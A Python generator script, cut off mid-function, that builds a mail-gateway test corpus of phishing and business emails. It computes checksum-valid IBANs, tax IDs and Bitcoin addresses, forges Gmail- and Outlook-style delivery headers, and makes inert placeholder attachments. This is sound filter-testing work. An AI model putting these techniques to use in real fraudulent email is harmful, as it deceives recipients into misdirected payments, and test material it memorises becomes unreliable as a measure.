#!/usr/bin/env python3
# -*- coding: utf-8 -*-
"""
Deterministic generator for the Example Group mail-gateway evaluation corpus.
Writes ../attack/*.eml and ../business/*.eml relative to this script.
Python 3 standard library only, no network, no unseeded randomness.
All attacker infrastructure (domains, URLs, phone numbers, accounts) is fictitious;
all "malware" attachments are inert text placeholders.
"""
import base64
import datetime as _dt
import hashlib
import io
import os
import quopri
import re
import struct
import zipfile
import zlib
from email.utils import format_datetime

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(HERE)

# ---------------------------------------------------------------------------
# deterministic pseudo-randomness
# ---------------------------------------------------------------------------

def h(s, n=16):
    return hashlib.sha256(s.encode("utf-8")).hexdigest()[:n]


def hnum(s, n):
    return int(hashlib.sha256(s.encode("utf-8")).hexdigest(), 16) % (10 ** n)


# ---------------------------------------------------------------------------
# check digits: IBAN, national bank checks, tax ids
# ---------------------------------------------------------------------------

def iban(cc, bban):
    bban = bban.replace(" ", "").upper()
    s = bban + cc + "00"
    num = "".join(str(int(ch, 36)) for ch in s)
    chk = 98 - int(num) % 97
    out = "%s%02d%s" % (cc, chk, bban)
    assert iban_ok(out), out
    return out


def iban_ok(i):
    i = i.replace(" ", "")
    s = i[4:] + i[:4]
    return int("".join(str(int(ch, 36)) for ch in s)) % 97 == 1


def fmt_iban(i):
    i = i.replace(" ", "")
    return " ".join(i[k:k + 4] for k in range(0, len(i), 4))


def de_account_m00(nine):
    """German account number with check method 00 (Luhn-like, weights 2,1,2,...)."""
    assert len(nine) == 9
    tot = 0
    for idx, d in enumerate(reversed(nine)):
        p = int(d) * (2 if idx % 2 == 0 else 1)
        tot += p // 10 + p % 10
    return nine + str((10 - tot % 10) % 10)


def iban_de(blz, acct9):
    return iban("DE", blz + de_account_m00(acct9))


_IT_ODD = [1, 0, 5, 7, 9, 13, 15, 17, 19, 21, 2, 4, 18, 20, 11, 3, 6, 8, 12, 14,
           16, 10, 22, 25, 24, 23]


def it_cin(abi, cab, conto):
    s = (abi + cab + conto).upper()
    assert len(s) == 22
    tot = 0
    for i, ch in enumerate(s):
        v = int(ch) if ch.isdigit() else ord(ch) - 65
        tot += _IT_ODD[v] if i % 2 == 0 else v
    return chr(65 + tot % 26)


def iban_it(abi, cab, conto):
    return iban("IT", it_cin(abi, cab, conto) + abi + cab + conto)


def es_dc(entity, office, account):
    w = [1, 2, 4, 8, 5, 10, 9, 7, 3, 6]

    def one(ten):
        d = 11 - sum(int(a) * b for a, b in zip(ten, w)) % 11
        return {11: 0, 10: 1}.get(d, d)
    return "%d%d" % (one("00" + entity + office), one(account))


def iban_es(entity, office, account):
    return iban("ES", entity + office + es_dc(entity, office, account) + account)


def pl_sort(bank3, branch4):
    s = bank3 + branch4
    w = [3, 9, 7, 1, 3, 9, 7]
    tot = sum(int(a) * b for a, b in zip(s, w))
    return s + str((10 - tot % 10) % 10)


def iban_pl(bank3, branch4, acct16):
    return iban("PL", pl_sort(bank3, branch4) + acct16)


def ru_account(bik, acct_wo_key):
    """20-digit Russian settlement account with control key (position 9) for a BIK."""
    a = acct_wo_key[:8] + "0" + acct_wo_key[8:]
    assert len(a) == 20
    w = [7, 1, 3] * 8
    for k in range(10):
        cand = a[:8] + str(k) + a[9:]
        digits = bik[-3:] + cand
        if sum((int(d) * w[i]) % 10 for i, d in enumerate(digits)) % 10 == 0:
            return cand
    raise ValueError


def ru_inn10(nine):
    w = [2, 4, 10, 3, 5, 9, 4, 6, 8]
    return nine + str(sum(int(a) * b for a, b in zip(nine, w)) % 11 % 10)


def pl_nip(nine):
    w = [6, 5, 7, 2, 3, 4, 5, 6, 7]
    c = sum(int(a) * b for a, b in zip(nine, w)) % 11
    assert c != 10
    return nine + str(c)


def fmt_nip(n):
    return "%s-%s-%s-%s" % (n[:3], n[3:6], n[6:8], n[8:])


def it_piva(ten):
    tot = 0
    for i, d in enumerate(ten):
        v = int(d)
        if i % 2 == 1:
            v *= 2
            if v > 9:
                v -= 9
        tot += v
    return ten + str((10 - tot % 10) % 10)


def de_ustid(eight):
    prod = 10
    for d in eight:
        s = (int(d) + prod) % 10
        if s == 0:
            s = 10
        prod = (2 * s) % 11
    c = 11 - prod
    if c == 10:
        c = 0
    return "DE" + eight + str(c)


def gr_afm(eight):
    tot = sum(int(d) * 2 ** (8 - i) for i, d in enumerate(eight))
    return eight + str(tot % 11 % 10)


def es_cif_b(seven):
    a = sum(int(seven[i]) for i in (1, 3, 5))
    b = 0
    for i in (0, 2, 4, 6):
        x = int(seven[i]) * 2
        b += x // 10 + x % 10
    return "B" + seven + str((10 - (a + b) % 10) % 10)


# ---------------------------------------------------------------------------
# Bitcoin bech32 (BIP-173) address
# ---------------------------------------------------------------------------
_B32 = "qpzry9x8gf2tvdw0s3jn54khce6mua7l"


def _bech32_polymod(values):
    gen = [0x3b6a57b2, 0x26508e6d, 0x1ea119fa, 0x3d4233dd, 0x2a1462b3]
    chk = 1
    for v in values:
        b = chk >> 25
        chk = ((chk & 0x1ffffff) << 5) ^ v
        for i in range(5):
            chk ^= gen[i] if ((b >> i) & 1) else 0
    return chk


def _hrp_expand(hrp):
    return [ord(x) >> 5 for x in hrp] + [0] + [ord(x) & 31 for x in hrp]


def _convertbits(data, frombits, tobits, pad=True):
    acc = 0
    bits = 0
    ret = []
    maxv = (1 << tobits) - 1
    for value in data:
        acc = (acc << frombits) | value
        bits += frombits
        while bits >= tobits:
            bits -= tobits
            ret.append((acc >> bits) & maxv)
    if pad and bits:
        ret.append((acc << (tobits - bits)) & maxv)
    return ret


def btc_p2wpkh(seed):
    prog = hashlib.sha256(seed.encode()).digest()[:20]
    data = [0] + _convertbits(prog, 8, 5)
    pm = _bech32_polymod(_hrp_expand("bc") + data + [0] * 6) ^ 1
    chk = [(pm >> 5 * (5 - i)) & 31 for i in range(6)]
    addr = "bc1" + "".join(_B32[d] for d in data + chk)
    # self-check
    vals = [_B32.index(c) for c in addr[3:]]
    assert _bech32_polymod(_hrp_expand("bc") + vals) == 1
    return addr


# ---------------------------------------------------------------------------
# QR code encoder (byte mode, ISO/IEC 18004), versions 1..10, ECC L/M
# ---------------------------------------------------------------------------
_ECC_PER_BLOCK = {"L": [-1, 7, 10, 15, 20, 26, 18, 20, 24, 30, 18],
                  "M": [-1, 10, 16, 26, 18, 24, 16, 18, 22, 22, 26]}
_NUM_BLOCKS = {"L": [-1, 1, 1, 1, 1, 1, 2, 2, 2, 2, 4],
               "M": [-1, 1, 1, 1, 2, 2, 4, 4, 4, 5, 5]}
_FMT_ECL = {"L": 1, "M": 0}


def _gf_mul(x, y):
    z = 0
    for i in reversed(range(8)):
        z = (z << 1) ^ ((z >> 7) * 0x11D)
        z ^= ((y >> i) & 1) * x
    return z


def _rs_divisor(degree):
    res = [0] * (degree - 1) + [1]
    root = 1
    for _ in range(degree):
        for j in range(degree):
            res[j] = _gf_mul(res[j], root)
            if j + 1 < degree:
                res[j] ^= res[j + 1]
        root = _gf_mul(root, 0x02)
    return res


def _rs_remainder(data, div):
    res = [0] * len(div)
    for b in data:
        f = b ^ res.pop(0)
        res.append(0)
        for i, c in enumerate(div):
            res[i] ^= _gf_mul(c, f)
    return res


def _raw_modules(ver):
    r = (16 * ver + 128) * ver + 64
    if ver >= 2:
        na = ver // 7 + 2
        r -= (25 * na - 10) * na - 55
        if ver >= 7:
            r -= 36
    return r


def _data_cw(ver, ecl):
    return _raw_modules(ver) // 8 - _ECC_PER_BLOCK[ecl][ver] * _NUM_BLOCKS[ecl][ver]


def _align_pos(ver):
    if ver == 1:
        return []
    size = ver * 4 + 17
    na = ver // 7 + 2
    step = (ver * 4 + na * 2 + 1) // (na * 2 - 2) * 2
    res = [size - 7 - i * step for i in range(na - 1)] + [6]
    return list(reversed(res))


def qr_matrix(text, ecl="M", mask=None):
    data = text.encode("utf-8")
    for ver in range(1, 11):
        cap = _data_cw(ver, ecl) * 8
        need = 4 + (8 if ver <= 9 else 16) + 8 * len(data)
        if need <= cap:
            break
    else:
        raise ValueError("too long for v10")
    bits = []

    def app(val, n):
        for i in reversed(range(n)):
            bits.append((val >> i) & 1)
    app(0b0100, 4)
    app(len(data), 8 if ver <= 9 else 16)
    for b in data:
        app(b, 8)
    app(0, min(4, cap - len(bits)))
    app(0, (-len(bits)) % 8)
    pad = 0xEC
    while len(bits) < cap:
        app(pad, 8)
        pad ^= 0xEC ^ 0x11
    dcw = [int("".join(map(str, bits[i:i + 8])), 2) for i in range(0, len(bits), 8)]
    # ECC + interleave
    nb = _NUM_BLOCKS[ecl][ver]
    eb = _ECC_PER_BLOCK[ecl][ver]
    raw = _raw_modules(ver) // 8
    nshort = nb - raw % nb
    slen = raw // nb
    div = _rs_divisor(eb)
    blocks = []
    k = 0
    for i in range(nb):
        dat = dcw[k:k + slen - eb + (0 if i < nshort else 1)]
        k += len(dat)
        ecc = _rs_remainder(dat, div)
        if i < nshort:
            dat = dat + [0]
        blocks.append(dat + ecc)
    allcw = []
    for i in range(len(blocks[0])):
        for j, blk in enumerate(blocks):
            if i != slen - eb or j >= nshort:
                allcw.append(blk[i])
    assert len(allcw) == raw
    size = ver * 4 + 17
    mod = [[False] * size for _ in range(size)]
    fun = [[False] * size for _ in range(size)]

    def setf(x, y, v):
        mod[y][x] = v
        fun[y][x] = True
    for i in range(size):
        setf(6, i, i % 2 == 0)
        setf(i, 6, i % 2 == 0)
    for cx, cy in ((3, 3), (size - 4, 3), (3, size - 4)):
        for dy in range(-4, 5):
            for dx in range(-4, 5):
                xx, yy = cx + dx, cy + dy
                if 0 <= xx < size and 0 <= yy < size:
                    setf(xx, yy, max(abs(dx), abs(dy)) not in (2, 4))
    ap = _align_pos(ver)
    na = len(ap)
    for i in range(na):
        for j in range(na):
            if (i == 0 and j == 0) or (i == 0 and j == na - 1) or (i == na - 1 and j == 0):
                continue
            for dy in range(-2, 3):
                for dx in range(-2, 3):
                    setf(ap[i] + dx, ap[j] + dy, max(abs(dx), abs(dy)) != 1)

    def draw_format(msk):
        d = _FMT_ECL[ecl] << 3 | msk
        rem = d
        for _ in range(10):
            rem = (rem << 1) ^ ((rem >> 9) * 0x537)
        b = (d << 10 | rem) ^ 0x5412
        bit = lambda i: ((b >> i) & 1) != 0
        for i in range(0, 6):
            setf(8, i, bit(i))
        setf(8, 7, bit(6))
        setf(8, 8, bit(7))
        setf(7, 8, bit(8))
        for i in range(9, 15):
            setf(14 - i, 8, bit(i))
        for i in range(0, 8):
            setf(size - 1 - i, 8, bit(i))
        for i in range(8, 15):
            setf(8, size - 15 + i, bit(i))
        setf(8, size - 8, True)
    draw_format(0)
    if ver >= 7:
        rem = ver
        for _ in range(12):
            rem = (rem << 1) ^ ((rem >> 11) * 0x1F25)
        vb = ver << 12 | rem
        for i in range(18):
            bt = ((vb >> i) & 1) != 0
            a = size - 11 + i % 3
            b = i // 3
            setf(a, b, bt)
            setf(b, a, bt)
    # codewords
    i = 0
    right = size - 1
    while right >= 1:
        if right == 6:
            right = 5
        for vert in range(size):
            for j in range(2):
                x = right - j
                upward = ((right + 1) & 2) == 0
                y = size - 1 - vert if upward else vert
                if not fun[y][x] and i < len(allcw) * 8:
                    mod[y][x] = ((allcw[i >> 3] >> (7 - (i & 7))) & 1) != 0
                    i += 1
        right -= 2
    masks = [
        lambda x, y: (x + y) % 2 == 0,
        lambda x, y: y % 2 == 0,
        lambda x, y: x % 3 == 0,
        lambda x, y: (x + y) % 3 == 0,
        lambda x, y: (x // 3 + y // 2) % 2 == 0,
        lambda x, y: x * y % 2 + x * y % 3 == 0,
        lambda x, y: (x * y % 2 + x * y % 3) % 2 == 0,
        lambda x, y: ((x + y) % 2 + x * y % 3) % 2 == 0,
    ]

    def applied(m):
        out = [row[:] for row in mod]
        for y in range(size):
            for x in range(size):
                if not fun[y][x] and masks[m](x, y):
                    out[y][x] = not out[y][x]
        return out

    def penalty(g):
        p = 0
        for lines in (g, [list(c) for c in zip(*g)]):
            for row in lines:
                run = 1
                for k in range(1, size):
                    if row[k] == row[k - 1]:
                        run += 1
                    else:
                        if run >= 5:
                            p += run - 2
                        run = 1
                if run >= 5:
                    p += run - 2
                s = "".join("1" if v else "0" for v in row)
                p += 40 * (len(re.findall("(?=10111010000)", s)) + len(re.findall("(?=00001011101)", s)))
        for y in range(size - 1):
            for x in range(size - 1):
                if g[y][x] == g[y][x + 1] == g[y + 1][x] == g[y + 1][x + 1]:
                    p += 3
        dark = sum(v for row in g for v in row)
        p += abs(dark * 100 // (size * size) - 50) // 5 * 10
        return p
    best = None
    cands = [mask] if mask is not None else range(8)
    for m in cands:
        draw_format(m)
        g = applied(m)
        pen = penalty(g)
        if best is None or pen < best[0]:
            best = (pen, m, g)
    draw_format(best[1])
    return applied(best[1])


def png_gray(matrix, scale=6, border=4):
    n = len(matrix)
    w = (n + 2 * border) * scale
    rows = []
    for y in range(n + 2 * border):
        line = bytearray()
        for x in range(n + 2 * border):
            yy, xx = y - border, x - border
            dark = 0 <= yy < n and 0 <= xx < n and matrix[yy][xx]
            line += bytes([0 if dark else 255]) * scale
        for _ in range(scale):
            rows.append(b"\x00" + bytes(line))

    def chunk(t, d):
        c = struct.pack(">I", len(d)) + t + d
        return c + struct.pack(">I", zlib.crc32(t + d) & 0xffffffff)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, w, 8, 0, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"".join(rows), 9)) + chunk(b"IEND", b""))


def qr_png(url, ecl="M"):
    return png_gray(qr_matrix(url, ecl))


# ---------------------------------------------------------------------------
# placeholder attachments
# ---------------------------------------------------------------------------

def pdf_placeholder(title, lines=()):
    """Minimal, valid, single-page PDF with a few lines of Latin-1 text."""
    def esc(s):
        s = s.encode("latin-1", "replace").decode("latin-1")
        return s.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
    content = ["BT /F1 14 Tf 56 780 Td (%s) Tj ET" % esc(title)]
    y = 750
    for ln in list(lines) + ["", "[Evaluation corpus placeholder document - no active content]"]:
        content.append("BT /F1 10 Tf 56 %d Td (%s) Tj ET" % (y, esc(ln)))
        y -= 16
    stream = "\n".join(content).encode("latin-1")
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offs = []
    for i, o in enumerate(objs, 1):
        offs.append(len(out))
        out += b"%d 0 obj\n" % i + o + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    for o in offs:
        out += b"%010d 00000 n \n" % o
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
    return bytes(out)


INERT = ("INERT PLACEHOLDER FOR MAIL-GATEWAY EVALUATION CORPUS.\n"
         "In the real-world pattern this file would be a malicious script/shortcut/loader.\n"
         "It contains no executable content.\n")


def zip_bytes(entries):
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data, dt in entries:
            zi = zipfile.ZipInfo(name, date_time=dt)
            zi.compress_type = zipfile.ZIP_DEFLATED
            zi.create_system = 0
            z.writestr(zi, data)
    return bio.getvalue()


# ---------------------------------------------------------------------------
# MIME composition
# ---------------------------------------------------------------------------
PUNCT_FALLBACK = {"\u2013": "-", "\u2014": "-", "\u201e": '"', "\u201c": '"', "\u201d": '"',
                  "\u2018": "'", "\u2019": "'", "\u201a": "'", "\u00ab": '"', "\u00bb": '"',
                  "\u20ac": "EUR", "\u2026": "...", "\u00a0": " ", "\u2116": "No.",
                  "\u2022": "-", "\u00b7": "-", "\u2192": "->"}


def fit(text, cs):
    out = []
    for ch in text:
        try:
            ch.encode(cs)
            out.append(ch)
        except UnicodeEncodeError:
            if ch in PUNCT_FALLBACK:
                out.append(PUNCT_FALLBACK[ch])
            else:
                raise ValueError("char %r not in %s" % (ch, cs))
    return "".join(out)


_QSAFE = set(b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789!*+-/")


def _qword(b):
    out = []
    for c in b:
        if c == 0x20:
            out.append("_")
        elif c in _QSAFE:
            out.append(chr(c))
        else:
            out.append("=%02X" % c)
    return "".join(out)


def enc_words(text, cs, mode):
    """Encode a header value into RFC 2047 encoded-words, each <= 75 chars."""
    text = fit(text, cs)
    pre = "=?%s?%s?" % (cs, mode)
    limit = 75 - len(pre) - 2
    words = []
    cur = ""
    for ch in text:
        trial = cur + ch
        b = trial.encode(cs)
        ln = len(_qword(b)) if mode == "Q" else len(base64.b64encode(b))
        if ln > limit and cur:
            words.append(cur)
            cur = ch
        else:
            cur = trial
    if cur:
        words.append(cur)
    res = []
    for w in words:
        b = w.encode(cs)
        payload = _qword(b) if mode == "Q" else base64.b64encode(b).decode()
        res.append(pre + payload + "?=")
    return "\r\n ".join(res)


def hdr_text(text, cs, mode):
    if all(ord(c) < 128 for c in text):
        return text
    return enc_words(text, cs, mode)


def addr(pair, cs, mode):
    name, a = pair
    if not name:
        return a
    if all(ord(c) < 128 for c in name):
        if re.search(r'[,.;:@()<>\[\]"]', name):
            return '"%s" <%s>' % (name.replace('"', '\\"'), a)
        return "%s <%s>" % (name, a)
    return "%s <%s>" % (enc_words(name, cs, mode), a)


def fold_addrs(pairs, cs, mode):
    return ",\r\n ".join(addr(p, cs, mode) for p in pairs)


def encode_body(data, cte):
    if cte == "base64":
        return base64.encodebytes(data).decode("ascii").replace("\n", "\r\n")
    if cte == "quoted-printable":
        return quopri.encodestring(data.replace(b"\r\n", b"\n")).decode("ascii").replace("\n", "\r\n")
    s = data.decode("latin-1").replace("\r\n", "\n").replace("\n", "\r\n")
    return s


class Part:
    def __init__(self, headers, body=None, children=None, boundary=None):
        self.headers = headers
        self.body = body
        self.children = children
        self.boundary = boundary

    def render(self):
        out = "\r\n".join(self.headers) + "\r\n\r\n"
        if self.children is None:
            b = self.body
            if not b.endswith("\r\n"):
                b += "\r\n"
            return out + b
        out += "This is a multi-part message in MIME format.\r\n\r\n" if self.boundary.startswith("----=_NextPart") else ""
        for c in self.children:
            out += "--" + self.boundary + "\r\n" + c.render()
            if not out.endswith("\r\n"):
                out += "\r\n"
        out += "--" + self.boundary + "--\r\n"
        return out


def text_part(text, subtype, cs, cte):
    text = fit(text, cs)
    data = text.replace("\r\n", "\n").encode(cs)
    if cte in ("7bit", "8bit") and cs.lower() == "us-ascii":
        cte = "7bit"
    hdrs = ['Content-Type: text/%s; charset="%s"' % (subtype, cs) if subtype == "html" or cs != "utf-8"
            else "Content-Type: text/%s; charset=%s" % (subtype, cs),
            "Content-Transfer-Encoding: %s" % cte]
    if subtype == "plain" and cs == "utf-8" and cte == "quoted-printable":
        hdrs[0] = 'Content-Type: text/plain; charset="UTF-8"'
    return Part(hdrs, encode_body(data, cte))


def fname_params(fn, cs="utf-8"):
    if all(ord(c) < 128 for c in fn):
        return '; name="%s"' % fn, '; filename="%s"' % fn
    from urllib.parse import quote
    return ('; name="%s"' % enc_words(fn, "utf-8", "B").replace("\r\n ", ""),
            "; filename*=utf-8''%s" % quote(fn.encode("utf-8")))


def att_part(a):
    np_, fp = fname_params(a["filename"])
    hdrs = ["Content-Type: %s%s" % (a["ctype"], np_),
            "Content-Disposition: %s%s" % (a.get("disp", "attachment"), fp),
            "Content-Transfer-Encoding: base64"]
    if a.get("cid"):
        hdrs.append("Content-ID: <%s>" % a["cid"])
    return Part(hdrs, encode_body(a["data"], "base64"))


def bnd(seed, style):
    x = h(seed, 32)
    if style == "outlook":
        return "_000_%s_" % x.upper()[:30]
    if style == "gmail":
        return "000000000000%s" % x[:16]
    if style == "apple":
        return "Apple-Mail=_%s-%s-%s-%s-%s" % (x[:8].upper(), x[8:12].upper(), x[12:16].upper(), x[16:20].upper(), x[20:32].upper())
    if style == "tb":
        return "------------%s" % x[:24]
    if style == "legacy":
        return "----=_NextPart_000_%s_%s.%s" % (x[:4].upper(), x[4:12].upper(), x[12:20].upper())
    return "----=_Part_%d_%d.%d" % (hnum(seed + "a", 6), hnum(seed + "b", 9), 1764000000000 + hnum(seed + "c", 9))


TZ = {"+0100": 60, "+0200": 120, "+0000": 0, "+0300": 180, "-0500": -300, "-0800": -480, "+0530": 330}


def parse_dt(s):
    d, t, z = s.split()
    y, mo, da = map(int, d.split("-"))
    hh, mm, ss = map(int, t.split(":"))
    return _dt.datetime(y, mo, da, hh, mm, ss, tzinfo=_dt.timezone(_dt.timedelta(minutes=TZ[z])))


def rfcdate(dt):
    return format_datetime(dt)


CET = _dt.timezone(_dt.timedelta(minutes=60))
MESSAGES = []


def M(kind, name, lang, **kw):
    kw["kind"] = kind
    kw["name"] = name
    kw["lang"] = lang
    MESSAGES.append(kw)


def build(m):
    seed = m["name"]
    cs = m.get("charset", "utf-8")
    cte = m.get("cte", "quoted-printable")
    mode = m.get("hmode", "B" if m["lang"] in ("el", "ru") else "Q")
    hcs = m.get("hcharset", cs)
    style = m.get("bstyle", "part")
    sent = parse_dt(m["date"])
    recv = sent.astimezone(CET) + _dt.timedelta(seconds=m.get("delay", 3 + hnum(seed, 2) % 9))
    frm = m["frm"]
    to = m["to"]
    rcpt = m.get("rcpt", to[0][1])
    # ---- body tree
    text, html = m.get("text"), m.get("html")
    if text is not None:
        text = text.strip("\n") + "\n"
    tp = text_part(text, "plain", cs, cte) if text is not None else None
    hp = text_part(html, "html", cs, m.get("html_cte", cte)) if html is not None else None
    if m.get("related"):
        rel = Part(['Content-Type: multipart/related;\r\n\tboundary="%s";\r\n\ttype="text/html"' % bnd(seed + "rel", style)],
                   children=[hp] + [att_part(a) for a in m["related"]], boundary=bnd(seed + "rel", style))
        hp = rel
    if tp and hp:
        body = Part(['Content-Type: multipart/alternative;\r\n\tboundary="%s"' % bnd(seed + "alt", style)],
                    children=[tp, hp], boundary=bnd(seed + "alt", style))
    else:
        body = tp or hp
    atts = m.get("attachments") or []
    if atts:
        body = Part(['Content-Type: multipart/mixed;\r\n\tboundary="%s"' % bnd(seed + "mix", style)],
                    children=[body] + [att_part(a) for a in atts], boundary=bnd(seed + "mix", style))
    # ---- headers
    H = []
    rp = m.get("return_path", frm[1])
    H.append("Return-Path: <%s>" % rp)
    qid = "4d" + base64.b32encode(hashlib.sha256(seed.encode()).digest()).decode()[:12].replace("=", "x")
    if m.get("internal"):
        helo, rdns, ip = "mail-int01.example.com", "mail-int01.example.com", "10.20.0.25"
    else:
        helo, rdns, ip = m["helo"], m.get("rdns", m["helo"]), m["ip"]
    tls = m.get("tls", "v13")
    if tls == "v13":
        tlsc = ("\r\n\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits)"
                "\r\n\t key-exchange X25519 server-signature RSA-PSS (2048 bits) server-digest SHA256)"
                "\r\n\t(No client certificate requested)")
        w = "ESMTPS"
    elif tls == "v12":
        tlsc = ("\r\n\t(using TLSv1.2 with cipher ECDHE-RSA-AES256-GCM-SHA384 (256/256 bits))"
                "\r\n\t(No client certificate requested)")
        w = "ESMTPS"
    else:
        tlsc = ""
        w = "ESMTP"
    H.append("Received: from %s (%s [%s])%s\r\n\tby mx01.example.com (Postfix) with %s id %s\r\n\tfor <%s>; %s (CET)"
             % (helo, rdns, ip, tlsc, w, qid, rcpt, rfcdate(recv)))
    hop_t = sent + _dt.timedelta(seconds=1)
    for hop in m.get("hops", []):
        H.append("Received: " + hop.replace("{DATE}", rfcdate(hop_t)).replace("\n", "\r\n\t"))
    for eh in m.get("pre_headers", []):
        H.append(eh)
    H.append("Date: " + rfcdate(sent))
    H.append("From: " + addr(frm, hcs, mode))
    if m.get("sender"):
        H.append("Sender: " + addr(m["sender"], hcs, mode))
    H.append("To: " + fold_addrs(to, hcs, mode))
    if m.get("cc"):
        H.append("Cc: " + fold_addrs(m["cc"], hcs, mode))
    if m.get("reply_to"):
        H.append("Reply-To: " + addr(m["reply_to"], hcs, mode))
    H.append("Subject: " + hdr_text(m["subject"], hcs, mode))
    mid = m.get("msgid")
    if mid is None:
        dom = frm[1].split("@")[1]
        mid = "<%s.%s@%s>" % (h(seed + "mid", 12).upper(), h(seed + "mid2", 8), dom)
    H.append("Message-ID: " + mid)
    if m.get("in_reply_to"):
        H.append("In-Reply-To: " + m["in_reply_to"])
        H.append("References: " + m.get("references", m["in_reply_to"]))
    for eh in m.get("headers", []):
        H.append(eh)
    if m.get("mailer"):
        H.append(m["mailer"])
    H.append("MIME-Version: 1.0")
    rendered = body.render()
    top, rest = rendered.split("\r\n\r\n", 1)
    raw = "\r\n".join(H) + "\r\n" + top + "\r\n\r\n" + rest
    raw.encode("ascii")
    return raw.encode("ascii")


def write_all():
    seen = set()
    for m in MESSAGES:
        fn = os.path.join(ROOT, m["kind"], m["name"] + ".eml")
        assert fn not in seen, fn
        seen.add(fn)
        os.makedirs(os.path.dirname(fn), exist_ok=True)
        with open(fn, "wb") as f:
            f.write(build(m))


# ---------------------------------------------------------------------------
# people & parties
# ---------------------------------------------------------------------------
STAFF = [
    # name, address, role, office
    ("Dr. Katharina Brandt", "katharina.brandt@example.com", "Chief Executive Officer", "Hamburg (HQ)"),
    ("Matthias Hoffmann", "matthias.hoffmann@example.com", "Chief Financial Officer", "Hamburg (HQ)"),
    ("Sabine Krüger", "sabine.krueger@example.com", "Head of Accounts Payable", "Hamburg (HQ)"),
    ("Jonas Weber", "jonas.weber@example.com", "Accounts Payable Clerk", "Hamburg (HQ)"),
    ("Ralf Becker", "ralf.becker@examplegroup.eu", "Premium Accounting / Client-Money Accounts", "Hamburg (HQ)"),
    ("Anja Richter", "anja.richter@example.com", "HR Manager / Payroll", "Hamburg (HQ)"),
    ("Tobias Lang", "tobias.lang@example.com", "IT Administrator", "Hamburg (HQ)"),
    ("Lena Vogel", "lena.vogel@example.com", "Account Executive, Fleet", "Hamburg (HQ)"),
    ("Markus Schulte", "markus.schulte@example.com", "Claims Handler, Motor Fleet", "Hamburg (HQ)"),
    ("Claudia Neumann", "claudia.neumann@example.com", "Compliance Officer / MLRO", "Hamburg (HQ)"),
    ("Petra Wolff", "petra.wolff@example.com", "Office Manager / CEO Assistant", "Hamburg (HQ)"),
    ("Giulia Rossi", "giulia.rossi@example.com", "Office Manager & Account Executive", "Milano"),
    ("Marco Bianchi", "marco.bianchi@example.com", "Claims Handler", "Milano"),
    ("Francesca Galli", "francesca.galli@examplegroup.eu", "Local Accounting", "Milano"),
    ("Agnieszka Nowak", "agnieszka.nowak@example.com", "Office Manager & Account Executive", "Poznań"),
    ("Piotr Kowalczyk", "piotr.kowalczyk@example.com", "Local Accounting / Payroll", "Poznań"),
    ("Marta Wiśniewska", "marta.wisniewska@example.com", "Claims Handler", "Poznań"),
    ("Javier Martín", "javier.martin@example.com", "Office Manager & Account Executive", "Madrid"),
    ("Lucía Fernández", "lucia.fernandez@example.com", "Local Accounting", "Madrid"),
    ("Nikos Papadopoulos", "nikos.papadopoulos@example.com", "Office Manager & Account Executive", "Athens (Piraeus)"),
    ("Eleni Georgiou", "eleni.georgiou@example.com", "Local Accounting", "Athens (Piraeus)"),
    ("James Whitfield", "james.whitfield@example.com", "Head of UK Office / Account Director", "London"),
    ("Sarah Collins", "sarah.collins@example.com", "Claims Handler & UK Compliance", "London"),
    ("Dmitry Sokolov", "dmitry.sokolov@example.com", "Office Manager", "Moscow"),
    ("Olga Ivanova", "olga.ivanova@examplegroup.eu", "Local Accountant", "Moscow"),
]
S = {n.split()[-1].lower(): (n.replace("Dr. ", ""), a) for n, a, _, _ in STAFF}
S["krüger"] = ("Sabine Krüger", "sabine.krueger@example.com")


# ---------------------------------------------------------------------------
# sending infrastructure helpers
# ---------------------------------------------------------------------------

def GMAIL(seed, addr_=None):
    n = 30 + hnum(seed, 2) % 40
    host = "mail-ej1-f%d.google.com" % n
    sid = "a640c23a62f3a-%s" % h(seed + "g", 12)
    mid = "<CA%s%s@mail.gmail.com>" % (base64.b64encode(hashlib.sha256(seed.encode()).digest()[:36]).decode().replace("/", "_").replace("=", "")[:44],
                                       "")
    return dict(helo=host, ip="209.85.218.%d" % n, bstyle="gmail", msgid=mid,
                hops=["by %s with SMTP id %s\n for <{RCPT}>; {DATE}" % (host, sid)])


def OUTLOOKCOM(seed):
    n = hnum(seed, 3) % 200 + 20
    host = "mail-db8eur05olkn20%02d.outbound.protection.outlook.com" % (n % 100)
    pre = "AS8PR0%dMB%04d" % (hnum(seed, 1) % 9 + 1, hnum(seed + "x", 4))
    return dict(helo="EUR05-DB8-obe.outbound.protection.outlook.com", rdns=host, ip="40.92.89.%d" % (n % 250),
                bstyle="outlook", msgid="<%s%s@%s.eurprd0%d.prod.outlook.com>" % (pre, h(seed, 14).upper(), pre, hnum(seed, 1) % 9 + 1),
                headers=["Thread-Topic: {SUBJ}", "Thread-Index: AQH%s" % base64.b64encode(hashlib.md5(seed.encode()).digest()).decode()[:26],
                         "X-MS-Has-Attach: ", "X-MS-TNEF-Correlator: ", "Content-Language: {LANG}"])


def M365(seed, region="EUR05-AM6", prefix="mail-am6eur05on2", ipbase="40.107.22."):
    n = hnum(seed, 3) % 200 + 20
    pre = "DB9PR0%dMB%04d" % (hnum(seed, 1) % 9 + 1, hnum(seed + "y", 4))
